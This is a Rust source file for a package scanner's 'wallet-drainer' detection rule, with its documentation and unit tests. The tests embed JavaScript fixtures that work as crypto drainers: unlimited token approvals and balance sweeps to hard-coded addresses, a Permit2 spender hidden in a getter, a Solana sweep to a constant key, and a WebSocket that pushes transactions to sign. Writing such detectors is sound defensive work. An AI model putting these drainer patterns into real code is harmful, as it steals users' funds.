//! `code/wallet-drainer`.

use super::{chain, describe, finding, flow_finding, flows, one_per_sink, per_signal};
use crate::CodeFinding;
use crate::flow::{SinkKind, SourceKind};
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// A library that builds its own wallet transaction moving funds to an address it hard-codes.
    ///
    /// ## What it detects
    /// An EIP-1193 request object the code builds itself — `{ method: 'eth_sendTransaction' |
    /// 'eth_signTransaction' | 'wallet_sendCalls', params: [{ … }] }` — whose transaction sends value to a
    /// hard-coded 20-byte address (a constant `to` with no calldata), or whose calldata starts with an
    /// ERC-20/721 selector that hands over tokens (`approve` `0x095ea7b3`, `transfer` `0xa9059cbb`,
    /// `transferFrom` `0x23b872dd`, `setApprovalForAll` `0xa22cb465`, `increaseAllowance` `0x39509351`) and
    /// embeds a hard-coded address as spender or recipient. Also the same hand-overs through a contract or
    /// signer object (`token.approve(MINE, MaxUint256)`, `nft.setApprovalForAll(MINE, true)`,
    /// `signer.sendTransaction({ to: MINE, value })`, Solana's `SystemProgram.transfer({ toPubkey: VAULT,
    /// lamports })` with `VAULT = new PublicKey('<literal>')`) and permit messages (EIP-2612, Permit2) whose `spender`
    /// is a hard-coded address. A hard-coded address is a literal, a constant, a member of a constant
    /// configuration object (`to: CFG.receiver` with `var CFG = { receiver: '0x…', … }`), or a class getter that
    /// assembles one (`get spender() { return ['0x7F', 'd1…'].join(''); }`). Also wallet requests that send or
    /// sign (`eth_sendTransaction`, `eth_signTypedData_v4`, `personal_sign`…) whose content a WebSocket or event
    /// stream to a host the package names pushes (critical: the server picks what the victim approves, so the
    /// code holds no address or amount). High; critical when the
    /// amount is unlimited
    /// (`'f'.repeat(64)`, `MaxUint256`) or the file builds more than one such transaction (approve every
    /// token, then sweep the native balance); a Solana transfer in a file that reads the wallet's balance
    /// (`getBalance`) is a sweep, critical.
    ///
    /// ## Why it matters
    /// Drainers injected into hijacked front-end packages (the October 2024 `@lottiefiles/lottie-player`
    /// compromise, the 2023 Ledger Connect Kit incident) show a fake "connect your wallet" prompt and then ask
    /// the victim's wallet to sign approvals and transfers to the attacker. No Node API is involved, the
    /// victims are the visitors of every site that embeds the package.
    ///
    /// ## Example
    /// `eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: token, data: '0x095ea7b3' + MINE.slice(2).padStart(64, '0') + 'f'.repeat(64) }] })`
    ///
    /// ## Known false positives
    /// Connector libraries (wagmi, web3modal, EIP-1193 wrappers) pass the caller's transaction through: their
    /// `to` and `data` are parameters, not constants, and are not reported. A donation or tip widget that
    /// hard-codes its author's address would be reported (high); a DEX helper that hand-builds an approval to a
    /// hard-coded router would be too — both are rare in a library and worth a reviewer's look. Swap widgets send
    /// the transaction an aggregator's HTTP API returns for the user's quote: a `fetch` response is not a push
    /// channel and is not reported.
    pub static WALLET_DRAINER = { id: "code/wallet-drainer", severity: Severity::Critical };
}

/// One finding per transaction object that moves funds to a hard-coded address, and per
/// wallet request whose content a push channel the package opens dictates.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = pushed(p);
    out.extend(per_signal(p, Kind::WalletDrain, |f, s| {
        let several = f.of(Kind::WalletDrain).count() >= 2;
        let sev = if s.detail.contains("unlimited") || several {
            Severity::Critical
        } else {
            Severity::High
        };
        Some(finding(
            &WALLET_DRAINER,
            sev,
            f,
            s,
            Locality::Function,
            format!("wallet transaction built by the package: {}", s.detail),
            chain(p, f, s, &[Kind::WalletAddress, Kind::Network]),
        ))
    }));
    out
}

/// Wallet requests (send, sign) built from what a WebSocket or event stream to a host the
/// package names pushes: the server picks the transaction or message, the page only asks
/// the user's wallet to approve it. Critical.
fn pushed(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    for path in flows(p, &[SourceKind::NetworkData], &[SinkKind::Wallet]) {
        let Some((client, url)) = path
            .from
            .what
            .strip_prefix("response of ")
            .and_then(|r| r.split_once(" from "))
        else {
            continue;
        };
        if !matches!(client, "WebSocket" | "EventSource") || crate::text::url_host(url).is_empty() {
            continue;
        }
        out.push(flow_finding(
            &WALLET_DRAINER,
            Severity::Critical,
            p,
            path,
            format!(
                "wallet request dictated by a server push channel: {}",
                describe(path)
            ),
        ));
    }
    one_per_sink(out)
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// Approve every token to a constant spender, then sweep the balance to a constant address.
    #[test]
    fn positive_unlimited_approval_and_sweep() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/widget.js",
                "var SPENDER = '0x1111222233334444555566667777888899990000';\nvar SINK = '0xaaaabbbbccccddddeeeeffff0000111122223333';\nasync function go(eth, tokens) {\n  var a = (await eth.request({ method: 'eth_requestAccounts' }))[0];\n  for (var t of tokens) {\n    await eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: t, data: '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + 'f'.repeat(64) }] });\n  }\n  await eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: SINK, value: '0x1' }] });\n}\nmodule.exports = go;\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-drainer"),
            vec![
                ("dist/widget.js".to_string(), 6),
                ("dist/widget.js".to_string(), 8)
            ]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A plain value transfer to one hard-coded address: high, not malicious alone.
    /// The receiver kept in a configuration object (`CFG.receiver`), the balance swept to it.
    #[test]
    fn positive_sweep_to_a_configured_receiver() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "var CFG = { receiver: '0x4344a99202A4706cd4667CFf8c48981335307b30', min: 0.001, retries: 3 };
exports.connect = async function (p) {
  var a = (await p.request({ method: 'eth_requestAccounts' }))[0];
  var bal = BigInt(await p.request({ method: 'eth_getBalance', params: [a, 'latest'] }));
  await p.request({ method: 'eth_sendTransaction', params: [{ from: a, to: CFG.receiver, value: '0x' + bal.toString(16) }] });
};
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-drainer"),
            vec![("index.js".to_string(), 5)]
        );
    }

    /// A connector sending the transaction its caller describes, with defaults from a config
    /// object that holds no address.
    #[test]
    fn negative_connector_with_config_object() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "var CFG = { gas: '0x5208', chainId: 1, retries: 3 };
exports.send = function (p, tx) {
  return p.request({ method: 'eth_sendTransaction', params: [{ from: tx.from, to: tx.to, value: tx.value, gas: CFG.gas }] });
};
",
            ),
        ]);
        assert!(
            hits(&s, "code/wallet-drainer").is_empty(),
            "{:?}",
            s.findings
        );
    }

    #[test]
    fn positive_transfer_to_a_constant_address() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "tip.js",
                "export function tip(eth, from) {\n  return eth.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x9a8b7c6d5e4f30211203948576afbecd12345678', value: '0x2386f26fc10000' }] });\n}\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/wallet-drainer");
        assert_eq!((f.line, f.severity), (2, diligence_finding::Severity::High));
    }

    /// An ethers-style drainer: every token approved to a constant spender, then a permit.
    #[test]
    fn positive_contract_approve_and_permit() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "d.js",
                "const MINE = '0x5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f';\nexport async function run(tokens, signer, owner) {\n  for (const t of tokens) await t.approve(MINE, ethers.MaxUint256);\n  const message = { owner, spender: MINE, value: ethers.MaxUint256, nonce: 0, deadline: 9999999999 };\n  return signer.signTypedData(domain, types, message);\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-drainer"),
            vec![("d.js".to_string(), 3), ("d.js".to_string(), 4)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A token helper approves the spender its caller names.
    #[test]
    fn negative_approve_callers_spender() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "t.js",
                "export function allow(token, spender, amount) {\n  return token.approve(spender, amount ?? ethers.MaxUint256);\n}\nexport function permit(owner, spender, value) {\n  return { owner, spender, value, nonce: 0, deadline: 0 };\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-drainer").is_empty());
    }

    /// A wagmi-style connector sends what its caller gives it.
    #[test]
    fn negative_connector_passes_the_callers_transaction() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "connector.js",
                "export async function sendTransaction(provider, tx) {\n  const [from] = await provider.request({ method: 'eth_requestAccounts' });\n  return provider.request({ method: 'eth_sendTransaction', params: [{ from, to: tx.to, value: tx.value, data: tx.data }] });\n}\nexport function approve(provider, from, token, spender, amount) {\n  const data = '0x095ea7b3' + spender.slice(2).padStart(64, '0') + amount.toString(16).padStart(64, '0');\n  return provider.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data }] });\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-drainer").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// Calling a known contract (a constant `to` with calldata the caller chose) is not a transfer.
    #[test]
    fn negative_contract_call_with_callers_calldata() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "router.js",
                "const ROUTER = '0x7a250d5630b4cf539739df2c5dacb4c659f2488d';\nexport function swap(provider, from, calldata) {\n  return provider.request({ method: 'eth_sendTransaction', params: [{ from, to: ROUTER, data: calldata }] });\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-drainer").is_empty());
    }

    /// A Solana batch sender whose "routing fee" moves most of the balance to a hard-coded key.
    #[test]
    fn positive_solana_fee_from_the_balance_to_a_constant_key() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const { PublicKey, SystemProgram, Transaction } = require('@solana/web3.js');\nconst VAULT = new PublicKey('Vau1tAddr3ss1111111111111111111111111111111');\nexports.fee = async function (conn, payer) {\n  const bal = await conn.getBalance(payer.publicKey);\n  const amt = Math.floor(bal * 9800 / 10000);\n  return new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: VAULT, lamports: amt }));\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-drainer"),
            vec![("index.js".to_string(), 6)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A fee-taking SDK whose fee recipient is the caller's configuration.
    #[test]
    fn negative_solana_fee_to_the_callers_recipient() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const { PublicKey, SystemProgram, Transaction } = require('@solana/web3.js');\nexports.fee = async function (conn, payer, opts) {\n  const bal = await conn.getBalance(payer.publicKey);\n  const amt = Math.floor(bal * opts.feeBps / 10000);\n  return new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new PublicKey(opts.feeRecipient), lamports: amt }));\n};\n",
            ),
        ]);
        assert!(
            hits(&s, "code/wallet-drainer").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A Permit2 batch whose spender a class getter assembles from fragments and whose
    /// amount is a named maximum constant: signed once, it lets the spender pull every token.
    #[test]
    fn positive_permit_batch_spender_from_a_getter() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/session.js",
                "const MAX = '0xffffffffffffffffffffffffffffffffffffffff';\nclass Session {\n  constructor(p, a) { this.p = p; this.a = a; }\n  get spender() { return ['0x7Fd1', 'c2B4', 'e0A9', '3f5D', '8a61', 'B0c7', 'e2D9', '4F03', '1aE6', '5b28'].join(''); }\n  async sign(tokens) {\n    const message = { details: tokens.map((token) => ({ token, amount: MAX, nonce: 0 })), spender: this.spender, sigDeadline: 1 };\n    return this.p.request({ method: 'eth_signTypedData_v4', params: [this.a, JSON.stringify({ primaryType: 'PermitBatch', message })] });\n  }\n}\nmodule.exports = { Session };\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/wallet-drainer");
        assert_eq!(
            (f.line, f.severity),
            (6, diligence_finding::Severity::Critical)
        );
    }

    /// The benign look-alike: a swap SDK signs a permit for the spender its caller (or its
    /// API) names; a getter that returns a field is not a constant.
    #[test]
    fn negative_permit_for_the_callers_spender_via_getter() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/permit.js",
                "const MAX = '0xffffffffffffffffffffffffffffffffffffffff';\nclass Permit {\n  constructor(opts) { this.opts = opts; }\n  get spender() { return this.opts.router; }\n  message(token) { return { details: [{ token, amount: MAX, nonce: 0 }], spender: this.spender, sigDeadline: 1 }; }\n}\nmodule.exports = { Permit };\n",
            ),
        ]);
        assert!(
            hits(&s, "code/wallet-drainer").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A web component that, after a fake "connect" prompt, opens a WebSocket to a host it
    /// assembles and asks the wallet to send whatever transactions the server pushes.
    #[test]
    fn positive_transactions_pushed_over_a_websocket() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/player.js",
                "function boot() {\n  const host = ['wss:', '', 'sync.example.com', 'ws'].join('/');\n  const prov = window.ethereum;\n  prov.request({ method: 'eth_requestAccounts' }).then((accts) => {\n    const sock = new WebSocket(host);\n    sock.onmessage = async (ev) => {\n      const job = JSON.parse(ev.data);\n      for (const tx of job.txs) { tx.from = accts[0]; await prov.request({ method: 'eth_sendTransaction', params: [tx] }); }\n    };\n  });\n}\nsetTimeout(boot, 3500);\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/wallet-drainer");
        assert_eq!(
            (f.line, f.severity),
            (8, diligence_finding::Severity::Critical)
        );
    }

    /// The benign look-alike: a swap widget sends the transaction the aggregator's HTTP API
    /// returned for the user's quote.
    #[test]
    fn negative_swap_widget_sends_the_quoted_transaction() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/swap.js",
                "export async function swap(provider, from, quote) {\n  const res = await fetch('https://api.example.com/swap?q=' + quote.id);\n  const tx = await res.json();\n  return provider.request({ method: 'eth_sendTransaction', params: [{ ...tx, from }] });\n}\n",
            ),
        ]);
        assert!(
            hits(&s, "code/wallet-drainer").is_empty(),
            "{:?}",
            s.findings
        );
    }
}
